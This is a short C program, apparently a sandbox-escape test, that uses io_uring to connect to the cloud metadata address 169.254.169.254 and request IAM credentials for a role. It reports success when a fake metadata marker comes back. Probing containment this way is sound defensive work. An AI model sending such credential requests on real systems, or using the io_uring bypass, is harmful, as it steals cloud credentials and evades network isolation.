#include "ring.h"

#define REQUEST "GET /latest/meta-data/iam/security-credentials/corpus-role HTTP/1.0\r\n\r\n"

int main(void) {
    struct ring ring;
    char answer[512] = "";
    struct timeval limit = {3, 0};
    struct sockaddr_in to = address("169.254.169.254", 80);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
    if (attempt("io_uring_setup", ring_setup(&ring)) < 0)
        return finish();
    if (attempt("connect by the ring", ring_connect(&ring, fd, &to, sizeof to)) < 0)
        return finish();
    write_text(fd, REQUEST);
    if (recv(fd, answer, sizeof answer - 1, MSG_WAITALL) > 0 && strstr(answer, "FAKE-METADATA"))
        effect("credentials read from metadata");
    return finish();
}
